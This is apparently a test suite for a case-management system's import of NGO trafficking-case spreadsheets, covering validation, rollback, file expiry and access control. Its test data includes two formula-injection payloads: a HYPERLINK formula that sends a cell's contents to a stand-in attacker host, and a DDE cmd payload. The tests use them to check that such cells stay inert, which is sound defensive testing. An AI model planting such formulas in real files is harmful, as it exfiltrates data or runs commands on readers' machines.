import { strToU8, zipSync } from 'fflate';
import { InsertQueryNode, type KyselyPlugin } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ImportJob } from '@ctip/contracts';
import type { HttpAgent } from '../../testing/http-agent';
import { createTestContext, type TestContext } from '../../testing/test-context';
import { dialectsUnderTest } from '../../testing/test-database';
import { uploadOf } from './case-exchange.access';
import { buildXlsx } from './testing/build-xlsx';
import { systemAuditContext } from '../../audit/audit-events';
import { commitImportRows } from './use-cases/commit-import-rows';
import { ImportJobRunner, importJobRunnerOf } from './use-cases/import-job-runner';
import { validateImportRows } from './use-cases/validate-import-rows';

/** A legacy register as an NGO keeps it: a title row, Khmer and English headers, names in several scripts, partial dates. */
const REGISTER = [
  'Case register 2026 (confidential),,,,,,,,,,,',
  'ឈ្មោះខ្មែរ,Name (English),Sex,Date of birth,Nationality,Province,Village,Type of exploitation,Sector,Date identified,MoSVY case no,Consent',
  'ជា សុខា,Chea Sokha,ស្រី,2001,Cambodian,Prey Veng,Prey Kabas,forced labour; debt bondage,fishing,14/03/2026,MOSVY-2026-0001,yes',
  ',Nguyễn Thị Lan,F,03/1998,Vietnamese,,,sexual exploitation,karaoke,2026-04-02,,thumbprint',
  '陈伟,Chen Wei,M,1995-07-21,China,KH-18,,online scam,scam compound,02/05/2026,MOSVY-2026-0002,written',
  'សុខ វុទ្ធី,Sok Vuthy,ប្រុស,,Khmer,ខេត្តកំពង់ចាម,,Forced labour,construction,20/05/2026,,no',
  '',
].join('\n');

const TERMINAL = new Set(['validated', 'committed', 'failed', 'cancelled', 'expired']);

describe.each(dialectsUnderTest())('import of legacy case spreadsheets on %s', (dialect) => {
  let context: TestContext;
  let shelter: string;
  let other: string;
  let worker: HttpAgent;
  let workerId: string;
  let workerEmail: string;
  let colleagueEmail: string;
  let outsiderEmail: string;
  let analystEmail: string;
  let colleague: HttpAgent;
  let outsider: HttpAgent;
  let analyst: HttpAgent;

  const count = async (table: 'persons' | 'cases' | 'case_import_files' | 'case_consents') => Number((await context.services.db.selectFrom(table).select((select) => select.fn.countAll<number>().as('n')).executeTakeFirstOrThrow()).n);
  const upload = async (agent: HttpAgent, content: string | Buffer, fileName = 'register.csv') => agent.post('/api/case-imports', uploadOf(content, fileName));
  /** Polls the job as the web app does, until its running phase ends. */
  const settle = async (agent: HttpAgent, id: string): Promise<ImportJob> => {
    await importJobRunnerOf(context.services).idle();
    const response = await agent.get(`/api/case-imports/${id}`);
    expect(response.statusCode).toBe(200);
    const job = response.json() as ImportJob;
    expect(TERMINAL.has(job.status), job.status).toBe(true);
    return job;
  };
  const dryRun = async (agent: HttpAgent, job: ImportJob, mapping = job.mapping!) => {
    const response = await agent.post(`/api/case-imports/${job.id}/dry-run`, mapping);
    expect(response.statusCode, response.body).toBe(202);
    return settle(agent, job.id);
  };

  beforeAll(async () => {
    context = await createTestContext(dialect);
    shelter = await context.createOrganisation({ nameEn: 'Shelter' });
    other = await context.createOrganisation({ nameEn: 'Other' });
    const workerAccount = await context.createUser(shelter, ['case_worker']);
    workerId = workerAccount.id;
    workerEmail = workerAccount.email;
    worker = await context.signIn(workerEmail);
    colleagueEmail = (await context.createUser(shelter, ['case_worker'])).email;
    colleague = await context.signIn(colleagueEmail);
    outsiderEmail = (await context.createUser(other, ['case_worker'])).email;
    outsider = await context.signIn(outsiderEmail);
    analystEmail = (await context.createUser(shelter, ['analyst'])).email;
    analyst = await context.signIn(analystEmail);
  });
  afterAll(async () => context?.close());

  it('proposes a mapping, dry-runs, and commits every row as a person and a screening-pending case', async () => {
    const uploaded = await upload(worker, REGISTER);
    expect(uploaded.statusCode, uploaded.body).toBe(201);
    const job = uploaded.json() as ImportJob;
    expect(job).toMatchObject({ status: 'mapping', format: 'csv', headerRow: 2, rowsTotal: 4 });
    expect(job.columns.map((column) => column.proposedField)).toEqual(['khmer_name', 'latin_name', 'sex', 'birth_date', 'nationality', 'home_province', 'home_village', 'exploitation_type', 'sector', 'identified_on', 'mosvy_case_number', 'consent_data_recording']);
    expect(job.mapping!.dateOrder).toBe('day_first');

    const validated = await dryRun(worker, job);
    expect(validated.report).toMatchObject({ rowsValid: 4, errorCount: 0 });
    expect(validated.rowsDone).toBe(4);
    expect(await count('persons')).toBe(0);

    const committing = await worker.post(`/api/case-imports/${job.id}/commit`, {});
    expect(committing.statusCode, committing.body).toBe(202);
    const committed = await settle(worker, job.id);
    expect(committed).toMatchObject({ status: 'committed', result: { persons: 4, cases: 4 }, rowsDone: 4, fileDeleted: true });
    expect(await count('case_import_files')).toBe(0);

    const cases = await context.services.db.selectFrom('cases').selectAll().orderBy('opened_on').execute();
    expect(cases.map((row) => [row.opened_on, row.stage, row.screening_id, row.owner_organisation_id, row.sex, row.nationality, row.province_code, row.mosvy_case_number])).toEqual([
      ['2026-03-14', 'identified', null, shelter, 'female', 'KH', 'KH-14', 'MOSVY-2026-0001'],
      ['2026-04-02', 'identified', null, shelter, 'female', 'VN', null, null],
      ['2026-05-02', 'identified', null, shelter, 'male', 'CN', 'KH-18', 'MOSVY-2026-0002'],
      ['2026-05-20', 'identified', null, shelter, 'male', 'KH', 'KH-3', null],
    ]);
    const exploitation = await context.services.db.selectFrom('case_exploitation').select(['case_id', 'kind', 'code']).where('case_id', '=', cases[0]!.id).orderBy('code').execute();
    expect(exploitation.map((row) => `${row.kind}:${row.code}`)).toEqual(['type:debt_bondage', 'sector:fishing', 'type:forced_labour']);
    expect(await count('case_consents')).toBe(3);

    // Names were encrypted, indexed and are found in either script; the person's birth keeps its precision.
    for (const search of ['សុខា', 'Chea Sokha', 'Nguyen Thi Lan', '陈伟']) {
      const found = (await worker.get(`/api/cases?search=${encodeURIComponent(search)}`)).json();
      expect(found.total, search).toBe(1);
    }
    const person = (await worker.get(`/api/persons/${cases[1]!.person_id}`)).json();
    expect(person).toMatchObject({ sex: 'female', birth: { precision: 'month', date: '1998-03' }, names: [{ script: 'vietnamese', kind: 'legal', full: 'Nguyễn Thị Lan' }] });

    const events = await context.services.db.selectFrom('audit_events').select(['action', 'details', 'actor_user_id']).where('action', 'like', 'case_import.%').orderBy('seq').execute();
    expect(events.map((event) => [event.action, JSON.parse(event.details)])).toEqual([
      ['case_import.started', { format: 'csv', rows: 4, sizeBytes: Buffer.byteLength(REGISTER) }],
      ['case_import.validated', { rows: 4, errors: 0, warnings: 0 }],
      ['case_import.committed', { persons: 4, cases: 4 }],
    ]);
    // The same sheet again: every MoSVY number is now taken, so nothing would be imported twice.
    const again = (await upload(worker, REGISTER)).json() as ImportJob;
    const rerun = await dryRun(worker, again);
    expect(rerun.report!.problems.filter((problem) => problem.code === 'already_imported').map((problem) => [problem.row, problem.column])).toEqual([[3, 'K'], [5, 'K']]);
    expect((await worker.delete(`/api/case-imports/${again.id}`)).statusCode).toBe(200);
  });

  it('reports every problem of a dry run by row and column, and commits nothing while any row has an error', async () => {
    const sheet = [
      'Name,Sex,Date of birth,Province,Date identified,Type of exploitation,MoSVY case number',
      'Chan Dara,X-ray,1990,Kandal,2026-01-05,forced labour,M-1',
      'Keo Bopha,F,31/02/1999,Atlantis,2026-01-06,sexual exploitation,M-2',
      ',F,1999,Takeo,2026-01-07,begging,M-3',
      'Sam Rithy,M,14/03/99,Takeo,2030-01-01,forced labour,M-1',
      'Ly Sophea,F,1999,Takeo,2026,surrogacy,',
      '=HYPERLINK("http://evil.example/?"&A2;"click"),F,2000,Takeo,2026-02-01,forced marriage,',
    ].join('\n');
    const before = { persons: await count('persons'), cases: await count('cases') };
    const job = (await upload(worker, sheet)).json() as ImportJob;
    const validated = await dryRun(worker, job);
    const problems = validated.report!.problems.map((problem) => [problem.row, problem.column, problem.header, problem.code, problem.severity]);
    expect(problems).toEqual([
      [2, 'B', 'Sex', 'unknown_sex', 'error'],
      [3, 'C', 'Date of birth', 'not_a_real_date', 'error'],
      [3, 'D', 'Province', 'unknown_province', 'error'],
      [4, null, null, 'name_required', 'error'],
      [5, 'C', 'Date of birth', 'two_digit_year', 'error'],
      [5, 'E', 'Date identified', 'future_date', 'error'],
      [5, 'G', 'MoSVY case number', 'duplicate_in_sheet', 'error'],
      [6, 'E', 'Date identified', 'date_too_vague', 'error'],
      [6, 'F', 'Type of exploitation', 'unknown_exploitation_type', 'error'],
      [7, 'A', 'Name', 'formula_kept_as_text', 'warning'],
    ]);
    expect(validated.report).toMatchObject({ rowsValid: 1, errorCount: 9, warningCount: 1 });
    // Messages say what is wrong without repeating what the cell holds.
    expect(JSON.stringify(validated.report)).not.toMatch(/Atlantis|X-ray|evil\.example/);
    const refused = await worker.post(`/api/case-imports/${job.id}/commit`, {});
    expect(refused.statusCode).toBe(409);
    expect({ persons: await count('persons'), cases: await count('cases') }).toEqual(before);
    // A mapping that names no date of identification is refused before any row is read.
    const badMapping = await worker.post(`/api/case-imports/${job.id}/dry-run`, { ...job.mapping!, columns: job.mapping!.columns.map((column) => (column.field === 'identified_on' ? { ...column, field: null } : column)) });
    expect(badMapping.statusCode).toBe(400);
    expect(badMapping.json().errors.map((error: { code: string }) => error.code)).toEqual(['identified_on_required']);
    expect((await worker.delete(`/api/case-imports/${job.id}`)).statusCode).toBe(200);
  });

  it('keeps formula-like cells as text, never evaluated, and imports them as written', async () => {
    const sheet = 'Name,Sex,Date identified,Phone\n"=cmd|\' /C calc\'!A0",F,2026-03-01,+855 12 345 678\n@SUM(1+1),M,2026-03-02,-12\n';
    const job = (await upload(worker, sheet)).json() as ImportJob;
    const validated = await dryRun(worker, job);
    expect(validated.report).toMatchObject({ errorCount: 0, warningCount: 2 });
    await worker.post(`/api/case-imports/${job.id}/commit`, {});
    expect((await settle(worker, job.id)).status).toBe('committed');
    const found = (await worker.get(`/api/cases?search=${encodeURIComponent('calc')}`)).json();
    expect(found.items.map((item: { displayName: string }) => item.displayName)).toEqual(["=cmd|' /C calc'!A0"]);
  });

  it('reads XLSX workbooks: real dates, numbers where text is expected, booleans, formulas (their saved value, never evaluated)', async () => {
    const workbook = buildXlsx([
      ['Name', 'Sex', 'Date of birth', 'Age', 'Province', 'Date identified', 'Phone', 'Consent', 'Primero ID'],
      ['Prak Vanna', 'F', new Date(Date.UTC(2003, 5, 9)), null, 'Siem Reap', new Date(Date.UTC(2026, 6, 1)), 12_345_678, true, 4711],
      ['Touch Kosal', 'M', null, 17, 12, '01/07/2026', null, false, null],
      [{ formula: 'CONCATENATE("Ouk"," ","Samnang")', cached: 'Ouk Samnang' }, 'M', 1994, null, 'Kampot', new Date(Date.UTC(2026, 6, 2)), null, 'written', null],
      [42, 'F', 'yesterday', null, 'Kep', new Date(Date.UTC(2026, 6, 3)), null, 'maybe', null],
    ]);
    const uploaded = await upload(worker, workbook, 'register.xlsx');
    expect(uploaded.statusCode, uploaded.body).toBe(201);
    const job = uploaded.json() as ImportJob;
    expect(job.format).toBe('xlsx');
    const validated = await dryRun(worker, job);
    expect(validated.report!.problems.map((problem) => [problem.row, problem.column, problem.code])).toEqual([
      [5, 'A', 'wrong_type'],
      [5, 'C', 'not_a_date'],
      [5, 'H', 'unknown_consent'],
    ]);
    expect(validated.report!.rowsValid).toBe(3);
    expect((await worker.delete(`/api/case-imports/${job.id}`)).statusCode).toBe(200);
  });

  it('refuses a row limit breach, oversized, disguised and damaged files with a clear message, writing nothing', async () => {
    const jobsBefore = await context.services.db.selectFrom('case_import_jobs').select('id').execute();
    const tooMany = `Name,Date identified\n${Array.from({ length: 50_001 }, (_, index) => `Person ${index},2026-01-01`).join('\n')}`;
    // A million rows, written as tersely as SpreadsheetML allows.
    const million = buildXlsx([], { sheet: strToU8(`<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${'<row/>'.repeat(1_000_000)}</sheetData></worksheet>`) });
    const cases: Array<[string, string | Buffer, string, number, RegExp]> = [
      ['50,001 rows', tooMany, 'big.csv', 413, /more than 50,000 rows/],
      ['a million rows', million, 'million.xlsx', 413, /more than 50,000 rows/],
      ['an image named .xlsx', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]), 'photo.xlsx', 415, /image/],
      ['an old .xls workbook', Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]), 'old.xls', 415, /97–2003/],
      ['binary garbage named .csv', Buffer.from(Array.from({ length: 4096 }, (_, index) => (index * 7919) % 256)), 'garbled.csv', 415, /UTF-8|binary/],
      ['a ZIP that is no workbook', Buffer.from(zipSync({ 'notes.txt': strToU8('hello') })), 'fake.xlsx', 415, /not an Excel workbook/],
      ['a truncated workbook', buildXlsx([['Name'], ['A']]).subarray(0, 300), 'cut.xlsx', 415, /damaged|not an Excel workbook/],
      ['a file over 20 MiB', Buffer.alloc(21 * 1024 * 1024, 'a'), 'huge.csv', 413, /larger than 20 MiB/],
      ['an unclosed quote', 'Name,Date identified\n"Chan Dara,2026-01-01\n' + 'x'.repeat(50_000), 'quote.csv', 400, /malformed/],
      ['an empty file', '', 'empty.csv', 415, /empty/],
    ];
    for (const [label, content, name, status, message] of cases) {
      const response = await upload(worker, content, name);
      expect(response.statusCode, `${label}: ${response.body.slice(0, 200)}`).toBe(status);
      expect(response.json().detail, label).toMatch(message);
    }
    expect(await context.services.db.selectFrom('case_import_jobs').select('id').execute()).toEqual(jobsBefore);
    // Not multipart at all.
    expect((await worker.post('/api/case-imports', { file: 'Name\nA' })).statusCode).toBe(415);
  }, 120_000);

  it('is all or nothing: when row N cannot be written, no person and no case of the sheet remain', async () => {
    const rows = Array.from({ length: 30 }, (_, index) => `Person Number${index},F,2026-06-01,IMPORT-${index}`);
    const sheet = `Name,Sex,Date identified,MoSVY case number\n${rows.join('\n')}`;
    const job = (await upload(worker, sheet)).json() as ImportJob;
    expect((await dryRun(worker, job)).report).toMatchObject({ errorCount: 0, rowsValid: 30 });
    // Meanwhile a colleague records row 25's MoSVY number on an existing case.
    const existing = (await context.services.db.selectFrom('cases').select('id').where('owner_organisation_id', '=', shelter).executeTakeFirstOrThrow()).id;
    expect((await colleague.patch(`/api/cases/${existing}`, { externalIds: { mosvyCaseNumber: 'IMPORT-23' } })).statusCode).toBe(200);
    const before = { persons: await count('persons'), cases: await count('cases') };
    // The commit re-checks and refuses before writing; a second dry run would have said so too.
    await worker.post(`/api/case-imports/${job.id}/commit`, {});
    const failed = await settle(worker, job.id);
    expect(failed).toMatchObject({ status: 'failed', failure: { row: 25, code: 'dry_run_stale' }, fileDeleted: true });
    expect({ persons: await count('persons'), cases: await count('cases') }).toEqual(before);
  });

  it('rolls back rows already written when row N fails inside the commit transaction', async () => {
    const rows = Array.from({ length: 40 }, (_, index) => `Roll Back${index},M,2026-06-02,ROLLBACK-${index}`);
    const job = (await upload(worker, `Name,Sex,Date identified,MoSVY case number\n${rows.join('\n')}`)).json() as ImportJob;
    expect((await dryRun(worker, job)).report).toMatchObject({ errorCount: 0 });
    const before = { persons: await count('persons'), cases: await count('cases'), audit: (await context.services.db.selectFrom('audit_events').select('seq').execute()).length };
    await context.services.db.updateTable('case_import_jobs').set({ status: 'committing' }).where('id', '=', job.id).execute();
    const runner = importJobRunnerOf(context.services);
    const validation = await validateImportRows(context.services, await runner.sheetOf(job.id), job.mapping!);
    // The database refuses the 31st case (spreadsheet row 32) after thirty persons and cases were written.
    let casesInserted = 0;
    const faulty: KyselyPlugin = {
      transformQuery: (args) => {
        if (InsertQueryNode.is(args.node) && args.node.into?.table.identifier.name === 'cases' && ++casesInserted === 31) throw new Error('disk full');
        return args.node;
      },
      transformResult: async (args) => args.result,
    };
    const failing = { ...context.services, db: context.services.db.withPlugin(faulty) };
    const actor = { userId: workerId, organisationId: shelter, roles: ['case_worker' as const], isPlatformOperator: false };
    await expect(commitImportRows(failing, actor, job.id, validation.mapped, systemAuditContext('test'), { onProgress: () => {}, isCancelled: () => false })).rejects.toMatchObject({ row: 32, code: 'write_failed' });
    expect(casesInserted).toBe(31);
    expect({ persons: await count('persons'), cases: await count('cases'), audit: (await context.services.db.selectFrom('audit_events').select('seq').execute()).length }).toEqual(before);
    expect((await context.services.db.selectFrom('case_import_jobs').select('status').where('id', '=', job.id).executeTakeFirstOrThrow()).status).toBe('committing');
    expect((await worker.delete(`/api/case-imports/${job.id}`)).statusCode).toBe(200);
  });

  it('keeps the file sealed, and deletes it on cancellation or an hour after upload', async () => {
    const canary = 'Canary Kanhchana';
    const first = await upload(worker, `Name,Date identified\n${canary},2026-01-01\n`);
    expect(first.statusCode, first.body).toBe(201);
    const job = first.json() as ImportJob;
    const stored = await context.services.db.selectFrom('case_import_files').select('content').where('job_id', '=', job.id).executeTakeFirstOrThrow();
    expect(Buffer.from(stored.content).includes(Buffer.from(canary))).toBe(false);
    const columns = await context.services.db.selectFrom('case_import_jobs').select(['columns', 'mapping']).where('id', '=', job.id).executeTakeFirstOrThrow();
    expect(columns.columns).toMatch(/^ctip1:/);
    const cancelled = await worker.delete(`/api/case-imports/${job.id}`);
    expect(cancelled.json()).toMatchObject({ status: 'cancelled', fileDeleted: true });
    expect((await worker.delete(`/api/case-imports/${job.id}`)).statusCode).toBe(409);

    const later = (await upload(worker, `Name,Date identified\n${canary},2026-01-01\n`)).json() as ImportJob;
    // Sessions time out sooner than files: each check signs in afresh.
    context.clock.advance(59 * 60_000);
    const afterAnHourAlmost = await context.signIn(workerEmail);
    expect((await afterAnHourAlmost.get(`/api/case-imports/${later.id}`)).json()).toMatchObject({ status: 'mapping', fileDeleted: false });
    context.clock.advance(2 * 60_000);
    expect((await afterAnHourAlmost.get(`/api/case-imports/${later.id}`)).json()).toMatchObject({ status: 'expired', fileDeleted: true });
    expect((await afterAnHourAlmost.post(`/api/case-imports/${later.id}/dry-run`, later.mapping)).statusCode).toBe(409);
    worker = afterAnHourAlmost;
    colleague = await context.signIn(colleagueEmail);
    outsider = await context.signIn(outsiderEmail);
    analyst = await context.signIn(analystEmail);
    const actions = (await context.services.db.selectFrom('audit_events').select('action').where('resource_id', 'in', [job.id, later.id]).orderBy('seq').execute()).map((event) => event.action);
    expect(actions).toEqual(['case_import.started', 'case_import.cancelled', 'case_import.started', 'case_import.expired']);
  });

  it('fails jobs a stopped process left running, deleting their files: a commit wrote nothing', async () => {
    const job = (await upload(worker, 'Name,Date identified\nNuon Theary,2026-01-01\n')).json() as ImportJob;
    await context.services.db.updateTable('case_import_jobs').set({ status: 'committing' }).where('id', '=', job.id).execute();
    // The next process's runner finds it on start.
    await new ImportJobRunner(context.services).failInterruptedJobs();
    expect((await worker.get(`/api/case-imports/${job.id}`)).json()).toMatchObject({ status: 'failed', failure: { code: 'interrupted' }, fileDeleted: true });
  });

  it('shows a job to its organisation’s case workers only', async () => {
    const job = (await upload(worker, 'Name,Date identified\nKim Dara,2026-01-01\n')).json() as ImportJob;
    expect((await colleague.get(`/api/case-imports/${job.id}`)).statusCode).toBe(200);
    expect((await outsider.get(`/api/case-imports/${job.id}`)).statusCode).toBe(404);
    expect((await outsider.post(`/api/case-imports/${job.id}/dry-run`, job.mapping)).statusCode).toBe(404);
    expect((await analyst.get(`/api/case-imports/${job.id}`)).statusCode).toBe(403);
    expect((await analyst.post('/api/case-imports', uploadOf('Name\nA'))).statusCode).toBe(403);
    expect((await context.agent().get(`/api/case-imports/${job.id}`)).statusCode).toBe(401);
    expect((await worker.delete(`/api/case-imports/${job.id}`)).statusCode).toBe(200);
  });
});
